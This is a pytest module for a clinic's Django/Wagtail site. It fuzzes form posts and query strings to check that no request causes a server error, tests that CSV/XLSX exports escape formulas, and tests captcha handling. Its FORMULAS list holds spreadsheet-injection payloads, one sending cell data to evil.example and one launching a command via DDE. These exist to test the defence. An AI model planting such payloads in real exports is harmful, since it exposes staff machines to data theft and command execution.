"""Hostile input: bodies that cannot be read, and fuzzed posts and query strings. Every answer
is a page of the site, never a server error (500)."""

import collections
import csv
import encodings.aliases
import io
import urllib.parse

import openpyxl
import pytest
from bs4 import BeautifulSoup
from captcha.models import CaptchaStore
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from base.middleware import can_decode_form_data
from forms.models import ContactSubmission
from forms.views import csv_cell, xlsx_cell
from tests.conftest import load_demo_content, need_postgresql

CONTACT = "/contact/"
ADMIN_LOGIN = "/admin/login/"
PAGES = ["/", "/procedures/", "/procedures/prolotherapy/", CONTACT, "/no-such-page/"]

FUZZ = settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def multipart(fields, boundary="----boundary"):
    parts = []
    for name, value in fields.items():
        value = value if isinstance(value, bytes) else value.encode()
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            + value
            + b"\r\n"
        )
    return b"".join(parts) + f"--{boundary}--\r\n".encode()


class Visitor:
    """A browser's session: a CSRF cookie from a first GET, sent back with each post (as the
    X-CSRFToken header, so that the body itself may be anything)."""

    def __init__(self):
        self.client = Client(enforce_csrf_checks=True, raise_request_exception=False)

    def token(self, url):
        if "csrftoken" not in self.client.cookies:
            self.client.get(url)
        return self.client.cookies["csrftoken"].value

    def post(self, url, body, content_type):
        return self.client.generic(
            "POST", url, body, content_type=content_type, HTTP_X_CSRFTOKEN=self.token(url)
        )


def assert_site_400_page(response):
    assert response.status_code == 400
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.find("h1").get_text(strip=True) == "Request not understood"
    # The site's own page: its header and footer, with the clinic's phone number.
    assert "+44 20 7946 0000" in soup.find("footer").get_text()


# Bodies that cannot be read

UNREADABLE = [
    ("application/x-www-form-urlencoded; charset=latin-1", b"name=Ana&message=caf%E9"),
    ("application/x-www-form-urlencoded; charset=utf-16", b"name=Ana"),
    ("application/x-www-form-urlencoded; charset=bz2", b"name=Ana"),
    ("multipart/form-data; boundary=----boundary; charset=bz2", multipart({"name": "Ana"})),
    ("multipart/form-data; boundary=----boundary; charset=base64", multipart({"name": "Ana"})),
    ("multipart/form-data; boundary=----boundary; charset=idna", multipart({"name": "Ana"})),
]


@pytest.mark.parametrize("url", [CONTACT, ADMIN_LOGIN])
@pytest.mark.parametrize("content_type,body", UNREADABLE)
def test_a_body_that_cannot_be_read_gets_the_sites_400_page(demo_content, url, content_type, body):
    response = Visitor().post(url, body, content_type)
    assert_site_400_page(response)
    assert not ContactSubmission.objects.exists()


def test_a_multipart_post_in_a_readable_character_set_is_read(demo_content):
    """Only unreadable character sets are refused: a form in Latin-1 is read as Latin-1."""
    body = multipart({"name": "Jos\xe9".encode("latin-1"), "message": b"Hello"})
    response = Visitor().post(
        CONTACT, body, "multipart/form-data; boundary=----boundary; charset=latin-1"
    )
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.find("input", attrs={"name": "name"})["value"] == "José"
    assert soup.select_one(".error-summary") is not None


def test_every_codec_python_knows_is_either_readable_or_refused():
    refused = {
        name for name in set(encodings.aliases.aliases.values()) if not can_decode_form_data(name)
    }
    assert {"bz2_codec", "base64_codec", "zlib_codec", "hex_codec", "rot_13"} <= refused
    assert not refused & {"utf_8", "latin_1", "utf_16", "cp1252", "shift_jis"}


# Fuzzing

# Every character set name Python knows (text or not), plus made-up ones.
CHARSETS = sorted(set(encodings.aliases.aliases) | set(encodings.aliases.aliases.values()))
charsets = st.one_of(
    st.sampled_from(CHARSETS + ["idna", "punycode", "undefined", "unicode_escape", "utf-8"]),
    st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_", min_size=1, max_size=12),
)
content_types = st.one_of(
    st.sampled_from(
        [
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "text/plain",
            "application/json",
        ]
    ),
    st.text(max_size=30).filter(lambda s: "\n" not in s and "\r" not in s),
)
# Any character but a lone surrogate (which no UTF-8 body can carry), controls included.
form_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)


@st.composite
def hostile_posts(draw):
    kind = draw(content_types)
    params = []
    if kind.startswith("multipart") and draw(st.booleans()):
        params.append("boundary=" + draw(st.sampled_from(["----boundary", "", "x" * 80, "a b"])))
    if draw(st.booleans()):
        params.append("charset=" + draw(charsets))
    content_type = "; ".join([kind, *params])
    fields = draw(
        st.dictionaries(
            st.sampled_from(["name", "email", "message", "username", "password", "captcha_1"]),
            form_text,
            max_size=4,
        )
    )
    shape = draw(st.sampled_from(["urlencoded", "multipart", "raw"]))
    if shape == "urlencoded":
        body = urllib.parse.urlencode(fields).encode()
    elif shape == "multipart":
        body = multipart(fields)
    else:
        body = draw(st.binary(max_size=200))
    return content_type, body


@pytest.fixture
def unlimited(settings):
    """No rate limit: the fuzzed posts all come from one address. The login throttle is on,
    as in production: a username that fails again and again is locked (429)."""
    settings.CONTACT_RATE_LIMIT = 1_000_000
    settings.AXES_ENABLED = True


@pytest.fixture(scope="module")
def visitor():
    """One browser session for all the examples of a test module (its CSRF cookie is kept)."""
    return Visitor()


@pytest.fixture(scope="module")
def tally(request):
    """Counts the fuzzed requests by URL and status, and prints the counts after the tests."""
    counts = collections.Counter()
    yield counts
    plugins = request.config.pluginmanager
    total = sum(n for (_, status), n in counts.items() if isinstance(status, int))
    lines = [f"{what} {status}: {n}" for (what, status), n in sorted(counts.items(), key=str)]
    with plugins.get_plugin("capturemanager").global_and_fixture_disabled():
        plugins.get_plugin("terminalreporter").write_line(
            f"\nfuzzed requests: {total}; " + "; ".join(lines)
        )


def assert_no_server_error(response, what, tally):
    tally[(what, response.status_code)] += 1
    assert response.status_code != 500, response.content[:300]
    if response.status_code == 400:
        assert_site_400_page(response)


@pytest.mark.parametrize("url", [CONTACT, ADMIN_LOGIN])
@FUZZ
@given(post=hostile_posts())
def test_fuzzed_posts_never_get_a_server_error(demo_content, unlimited, visitor, tally, url, post):
    content_type, body = post
    response = visitor.post(url, body, content_type)
    assert_no_server_error(response, f"POST {url}", tally)
    # 429: the login throttle, when the same username fails again and again.
    assert response.status_code in ((200, 400, 403, 429) if url == ADMIN_LOGIN else (200, 400, 403))


@FUZZ
@given(
    fields=st.fixed_dictionaries(
        {
            "name": form_text,
            # Mostly real addresses, so that most messages get through and are stored.
            "email": st.one_of(st.emails(), form_text),
            "message": st.text(st.characters(exclude_categories=["Cs"]), min_size=1),
        }
    )
)
def test_fuzzed_contact_messages_are_stored_as_typed_or_refused_on_a_field(
    demo_content, unlimited, visitor, tally, fields
):
    """Well-formed posts with any characters at all, and a solved captcha: each is thanked
    and stored exactly as typed (less surrounding spaces), or shown again with its errors."""
    key = CaptchaStore.generate_key()
    data = {
        **fields,
        "no_medical_details": "on",
        "captcha_0": key,
        "captcha_1": CaptchaStore.objects.get(hashkey=key).response,
    }
    before = ContactSubmission.objects.count()
    response = visitor.post(
        CONTACT, urllib.parse.urlencode(data).encode(), "application/x-www-form-urlencoded"
    )
    assert_no_server_error(response, "POST /contact/ (fields)", tally)
    soup = BeautifulSoup(response.content, "html.parser")
    heading = soup.find("h1").get_text(strip=True)
    if heading == "Thank you, your message has been sent":
        tally[("POST /contact/ (fields)", "stored")] += 1
        stored = ContactSubmission.objects.order_by("pk").last().form_data
        assert {name: stored[name] for name in fields} == {
            name: value.strip() for name, value in fields.items()
        }
    else:
        assert response.status_code == 200
        assert ContactSubmission.objects.count() == before
        assert soup.select_one(".error-summary") is not None


query_strings = st.one_of(
    st.builds(lambda q: "q=" + urllib.parse.quote(q), st.text(max_size=80)),
    st.builds(lambda b: "q=" + urllib.parse.quote_from_bytes(b), st.binary(max_size=80)),
    st.text(
        alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E, exclude_characters="#"),
        max_size=80,
    ),
)


@FUZZ
@given(path=st.sampled_from(PAGES), query=query_strings)
def test_fuzzed_query_strings_never_get_a_server_error(demo_content, visitor, tally, path, query):
    response = visitor.client.get(f"{path}?{query}")
    assert_no_server_error(response, "GET ?q=", tally)
    assert response.status_code == (404 if path == "/no-such-page/" else 200)


# Exports of what patients typed


@pytest.fixture
def staff_client(client, demo_content):
    from django.contrib.auth.models import User

    client.force_login(User.objects.create_superuser("exporter", "e@clinic.example", "pw"))
    return client


def store_messages(*messages):
    from forms.models import ContactFormPage

    page = ContactFormPage.objects.get()
    for message in messages:
        ContactSubmission.objects.create(
            page=page, form_data={"name": "Ana", "email": "ana@example.org", "message": message}
        )
    return page


def exported_csv(client, page):
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    return [row["Message"] for row in rows]


def exported_xlsx(client, page):
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.values)
    column = rows[0].index("Message")
    return [row[column] for row in rows[1:]]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 20 7946 0999",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_writes_formulas_as_text(staff_client):
    page = store_messages("Plain question? = no formula", *FORMULAS)
    assert sorted(exported_csv(staff_client, page)) == sorted(
        ["Plain question? = no formula"] + ["'" + formula for formula in FORMULAS]
    )


def test_xlsx_export_survives_control_characters(staff_client):
    page = store_messages("Line one\x0bstill line one\x1b[31m", "Fine message")
    assert sorted(exported_xlsx(staff_client, page)) == sorted(
        ["Line one\ufffdstill line one\ufffd[31m", "Fine message"]
    )
    # Formulas stay text in XLSX too (Wagtail marks them so).
    page = store_messages(FORMULAS[0])
    assert FORMULAS[0] in exported_xlsx(staff_client, page)


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    messages=st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")),
        min_size=1,
        max_size=4,
    )
)
def test_exports_carry_any_text_a_patient_can_send(staff_client, messages):
    ContactSubmission.objects.all().delete()
    page = store_messages(*messages)
    assert sorted(exported_csv(staff_client, page)) == sorted(map(csv_cell, messages))
    assert sorted(exported_xlsx(staff_client, page), key=str) == sorted(
        (xlsx_cell(m) or None for m in messages), key=str
    )


# Captchas


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_solved_captcha_is_accepted_once_when_posted_in_parallel(settings):
    """Five browsers post the same solved captcha at the same moment, each from its own
    thread and database connection: one message is stored, four are refused. On PostgreSQL:
    SQLite's in-memory test database refuses parallel writers instead of queueing them."""
    import threading

    from django.db import connection

    need_postgresql()
    load_demo_content()
    settings.CONTACT_RATE_LIMIT = 100
    key = CaptchaStore.generate_key()
    data = {
        "name": "Ana",
        "email": "ana@example.org",
        "message": "Hello",
        "no_medical_details": "on",
        "captcha_0": key,
        "captcha_1": CaptchaStore.objects.get(hashkey=key).response,
    }
    visitors = [Visitor() for _ in range(5)]
    for visitor in visitors:
        visitor.token(CONTACT)
    start = threading.Barrier(len(visitors))
    headings = []

    def post(visitor):
        try:
            start.wait()
            response = visitor.post(
                CONTACT, urllib.parse.urlencode(data).encode(), "application/x-www-form-urlencoded"
            )
            headings.append(BeautifulSoup(response.content, "html.parser").h1.get_text(strip=True))
        finally:
            connection.close()

    threads = [threading.Thread(target=post, args=(visitor,)) for visitor in visitors]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert sorted(headings) == ["Contact us"] * 4 + ["Thank you, your message has been sent"]
    assert ContactSubmission.objects.count() == 1
    assert not CaptchaStore.objects.filter(hashkey=key).exists()


def test_captcha_clean_removes_expired_captchas(db):
    from datetime import timedelta

    from django.core.management import call_command
    from django.utils import timezone

    fresh = CaptchaStore.generate_key()
    for _ in range(3):
        CaptchaStore.generate_key()
    CaptchaStore.objects.exclude(hashkey=fresh).update(
        expiration=timezone.now() - timedelta(minutes=1)
    )
    call_command("captcha_clean", verbosity=0)
    assert list(CaptchaStore.objects.values_list("hashkey", flat=True)) == [fresh]
